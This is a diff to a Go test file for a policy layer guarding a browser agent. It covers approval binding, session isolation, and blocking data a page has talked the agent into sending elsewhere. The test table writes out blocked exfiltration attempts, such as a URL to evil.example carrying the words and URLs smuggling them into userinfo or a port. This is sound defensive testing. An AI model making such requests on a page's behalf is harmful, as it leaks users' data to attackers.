@@ -10,8 +10,8 @@ import (
 	"belljar.dev/policies"
 )
 
-// A yes is for what was shown to the person: if the page has moved on by the time it is used,
-// nothing is done, and the agent reads why (BR-A41).
+// An approval is for what was shown to the person: if the page has changed before the
+// approval is used, nothing is done, and the agent gets the reason (BR-A41).
 func TestAYesIsForWhatWasShown(t *testing.T) {
 	change := func(f func(*act.Facts)) func(*page1) {
 		return func(p *page1) {
@@ -22,7 +22,7 @@ func TestAYesIsForWhatWasShown(t *testing.T) {
 	}
 	for name, tt := range map[string]struct {
 		use  func(*page1)
-		told string // empty: the step is done
+		told string // text for the agent; empty if the step is done
 	}{
 		"as it was":       {func(*page1) {}, ""},
 		"another address": {change(func(f *act.Facts) { f.To = "https://pay.example/more" }), "the page has changed since this step was decided about"},
@@ -57,8 +57,8 @@ func TestAYesIsForWhatWasShown(t *testing.T) {
 	}
 }
 
-// Words that an agent was talked into saying elsewhere go neither into an address that no page
-// has shown, nor into a field or a form where no rule allows that (BR-A34).
+// A page may talk an agent into sending words to another site. These words reach neither an
+// address that no page has shown, nor a field or a form that no rule allows (BR-A34).
 func TestNoWordsGoElsewhere(t *testing.T) {
 	policy := strings.Replace(surfing, "match: {act: [navigate, follow, press, type, point, submit, secret, confirm, eval]}", "match: {act: [navigate, follow, press, type, submit], url: \"https://shop.example/**\"}", 1)
 	policy = strings.Replace(policy, "rules:\n", "rules:\n  - {id: write, match: {act: type, on: \"https://shop.example/**\"}, decision: allow, profile: web}\n", 1)
@@ -71,11 +71,13 @@ func TestNoWordsGoElsewhere(t *testing.T) {
 		`{"do":"open","url":"https://shop.example:the-words/"}`:       "",
 		`{"do":"open","url":"https://the-words@shop.example/"}`:       "",
 		`{"do":"open","url":"https://evil.example/the-words"}`:        "",
-		`{"do":"open","url":"https://shop.example/?q=1"}`:             "open 0https://shop.example/?q=1", // a page has shown it
-		`{"do":"fill","ref":6,"text":"the words"}`:                    "",                                // a field of another site
-		`{"do":"fill","ref":7,"text":"the words"}`:                    "fill 7",
-		`{"do":"press","ref":8,"text":"Enter"}`:                       "", // sends a form to another site
-		`{"do":"press","ref":9,"text":"Enter"}`:                       "press 9",
+		// a page has shown this address
+		`{"do":"open","url":"https://shop.example/?q=1"}`: "open 0https://shop.example/?q=1",
+		// a field of another site
+		`{"do":"fill","ref":6,"text":"the words"}`: "",
+		`{"do":"fill","ref":7,"text":"the words"}`: "fill 7",
+		`{"do":"press","ref":8,"text":"Enter"}`:    "", // sends a form to another site
+		`{"do":"press","ref":9,"text":"Enter"}`:    "press 9",
 	} {
 		s := newSurfer(t, policy)
 		session, page := s.session(t)
@@ -90,8 +92,8 @@ func TestNoWordsGoElsewhere(t *testing.T) {
 	}
 }
 
-// A session reaches its own browser alone, whatever tab, download or part of a look of another
-// one it names (BR-A39).
+// A session reaches only its own browser, whatever tab, download or part of a look of
+// another session it names (BR-A39).
 func TestBrowsersOfOthersAreUnknown(t *testing.T) {
 	s := newSurfer(t, surfing)
 	_, theirs := s.session(t)
